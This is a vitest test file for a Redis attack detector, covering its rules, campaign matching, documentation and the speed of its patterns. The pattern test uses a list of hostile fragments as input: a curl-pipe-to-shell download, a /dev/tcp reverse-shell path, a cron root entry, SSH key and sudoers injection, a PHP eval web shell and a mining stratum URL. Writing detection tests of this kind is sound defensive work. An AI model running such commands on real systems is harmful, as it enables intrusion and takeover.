import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { layerOf } from '../src/detect/act-text.ts';
import { createCampaignMatcher, loadCampaigns } from '../src/detect/campaigns.ts';
import { createDetector } from '../src/detect/detector.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import { loadRules } from '../src/detect/rules.ts';
import { Act } from '../src/model/act.ts';
import type { Finding } from '../src/model/finding.ts';
import { severityRank, stageRank } from '../src/model/severity.ts';
import { packagedText, packageRoot, textFiles } from '../src/platform/files.ts';
import { interpretCommand } from '../src/redis/interpret.ts';
import { HONEST_ACTS } from './rules/honest-acts.ts';
import { PLAYS, SCANS } from './rules/plays.ts';

const loaded = loadRules(textFiles(join(packageRoot, 'rules'), '.yaml'));
const campaigns = loadCampaigns(textFiles(join(packageRoot, 'campaigns'), '.yaml'), loaded.patterns);
const matcher = createCampaignMatcher(campaigns.campaigns);

describe('the shipped rules', () => {
  test('load without a fault', () => {
    expect(loaded.faults).toEqual([]);
    expect(campaigns.faults).toEqual([]);
  });

  test('are at least 25, and the campaigns at least 10', () => {
    expect(loaded.rules.length).toBeGreaterThanOrEqual(25);
    expect(campaigns.campaigns.length).toBeGreaterThanOrEqual(10);
  });

  test('have an example that matches and one that does not, ATT&CK ids, and advice in lines', () => {
    const wanting = loaded.rules
      .map(({ rule }) => rule)
      .filter(({ examples, attack, advice }) => {
        const ids = attack.every((id) => /^T\d{4}(\.\d{3})?$/.test(id));
        const lines = advice.split('\n').every((line) => line.length <= 130);
        return examples.match.length === 0 || examples.miss.length === 0 || !ids || !lines;
      });

    expect(wanting.map(({ id }) => id)).toEqual([]);
  });

  test('are named after their file', () => {
    const named = textFiles(join(packageRoot, 'rules'), '.yaml').filter(({ path, text }) => {
      const name = path.replace(/^.*[\\/]/, '').replace('.yaml', '');
      return !new RegExp(`^(pattern: ${name}|id: [a-z]+\\.${name})$`, 'm').test(text);
    });

    expect(named.map(({ path }) => path)).toEqual([]);
  });

  test('call a visit that only looks around neither an attack nor grave', () => {
    const grave = loaded.rules
      .map(({ rule }) => rule)
      .filter(
        ({ stage, severity }) => stage === 'reconnaissance' && severityRank(severity) > severityRank('low'),
      );

    expect(grave.map(({ id }) => id)).toEqual([]);
  });
});

describe('docs/rules.md', () => {
  const blocks = [...packagedText('docs/rules.md').matchAll(/```yaml\n([^]*?)```/g)].map(
    ([, yaml = '']) => yaml,
  );
  const files = (start: RegExp) =>
    blocks.filter((yaml) => start.test(yaml)).map((text, at) => ({ path: `docs-${at}.yaml`, text }));

  test('has examples that load', () => {
    const rules = loadRules([...files(/^id: [a-z]+\./), ...files(/^pattern:/)]);
    const waves = loadCampaigns(files(/^id: [a-z]+-/), rules.patterns);

    expect([rules.faults, waves.faults]).toEqual([[], []]);
    expect([rules.rules.length, rules.patterns.size, waves.campaigns.length]).toEqual([1, 1, 1]);
  });

  test('lists every act with all its fields, and every criterion', () => {
    const text = packagedText('docs/rules.md');
    const missing = Act.options.flatMap(({ shape }) => {
      const row =
        text.split('\n').find((line) => line.startsWith('|') && line.includes(`\`${shape.type.value}\``)) ??
        '';
      return Object.keys(shape)
        .filter(
          (name) =>
            !['type', 'cut', 'local', 'counts', 'samples'].includes(name) && !row.includes(`\`${name}\``),
        )
        .map((name) => `${shape.type.value}.${name}`);
    });
    const criteria = ['is', 'prefix', 'suffix', 'contains', 'like', 're', 'over', 'under', 'longer', 'not'];

    expect(missing).toEqual([]);
    expect(criteria.filter((name) => !text.includes(`\`${name}:`))).toEqual([]);
  });
});

describe('the known attacks', () => {
  test.for(PLAYS)('$name is seen for what it is', ({ commands, rules, campaign }) => {
    const { findings, named } = play(commands);

    expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([...rules]));
    expect(named).toEqual(campaign === undefined ? [] : [campaign]);
    expect(findings.some(({ stage }) => stageRank(stage) >= stageRank('access'))).toBe(true);
  });

  test.for(PLAYS.filter(({ campaign }) => campaign !== undefined))(
    '$name is still seen under other names',
    ({ commands, rules }) => {
      const renamed = commands.map((words) =>
        /^set$/i.test(words[0] ?? '') ? ['SET', `k${words[1]?.length ?? 0}`, ...words.slice(2)] : words,
      );

      expect(play(renamed).findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([...rules]));
    },
  );

  test.for(PLAYS)('$name is seen as well where the server refuses it', ({ commands }) => {
    const { findings } = play(commands, false);

    expect(findings.some(({ stage }) => stageRank(stage) >= stageRank('access'))).toBe(true);
  });
});

describe('visits that only look around', () => {
  test.for(SCANS)('$name is no attack', ({ commands, rules }) => {
    const { findings, named } = play(commands);

    expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([...rules]));
    expect(findings.filter(({ stage }) => stage !== 'reconnaissance')).toEqual([]);
    expect(named).toEqual([]);
  });
});

describe('honest data and settings', () => {
  const rules = createRuleMatcher(loaded.rules);

  test.for(HONEST_ACTS)('$name raises nothing of weight', ({ acts }) => {
    const grave = acts.flatMap((act) =>
      rules
        .match(act)
        .filter(
          ({ rule }) => rule.axis === 'infected' && severityRank(rule.severity) >= severityRank('medium'),
        )
        .map(({ rule, evidence }) => ({ rule: rule.id, evidence })),
    );

    expect(grave).toEqual([]);
    expect(matcher.named(acts.flatMap((act) => matcher.signs(act)))).toEqual([]);
  });
});

describe('the shipped patterns', () => {
  const patterns = [...loaded.patterns].map(([name, pattern]) => ({ name, pattern }));
  const fill = (piece: string): string => piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
  const hostile = [
    '\n* * * * * root ',
    'curl http://a.b/ | sh ;chmod +x ',
    ' ssh-rsa AAAA\n:0:0:ALL=(ALL)',
    '<? eval(<% $_POST[ /dev/tcp/1.1.1.1/ base64 -d socket.socket(',
    'data files keys pay send 1 btc -o stratum+tcp://x ',
    'collectgarbage( loadstring package.loadlib io.popen\nos\nsystem ',
  ].map(fill);

  test.for(patterns)('$name answers on 64 KiB of text made against it', ({ pattern }) => {
    const answers = hostile.map((text) => pattern.find(layerOf(text))?.at ?? -1);

    expect(answers.every((at) => at >= -1 && at < 65_536)).toBe(true);
  });
});

/** Plays commands as one visit: what the rules find, and which campaigns it is named after. */
function play(
  commands: readonly (readonly string[])[],
  accepted = true,
): { findings: Finding[]; named: string[] } {
  const detector = createDetector(loaded.rules);
  let dir = '/var/lib/redis';
  let dbfilename = 'dump.rdb';
  const acts = commands.flatMap((words): Act[] => {
    const argv = words.map((word) => Buffer.from(word, 'utf8').toString('latin1'));
    const setting = accepted && /^config$/i.test(argv[0] ?? '') ? argv[2] : undefined;
    if (setting === 'dir') dir = argv[3] ?? '';
    if (setting === 'dbfilename') dbfilename = argv[3] ?? '';
    const outcome = accepted ? ({ reply: 'ok' } as const) : ({ reply: 'error', error: 'ERR no' } as const);
    return interpretCommand(argv, outcome, { db: 0, dir, dbfilename });
  });
  const findings = acts.flatMap((act, index) => [
    ...detector.observe({
      id: `play-${index}`,
      time: index * 100,
      vantage: 'sensor',
      sensor: 'test',
      session: 'play',
      peer: { address: '198.51.100.7', port: 40_000 },
      act,
    }).findings,
  ]);
  const named = matcher.named(acts.flatMap((act) => matcher.signs(act)));
  return { findings, named: named.map(({ id }) => id) };
}
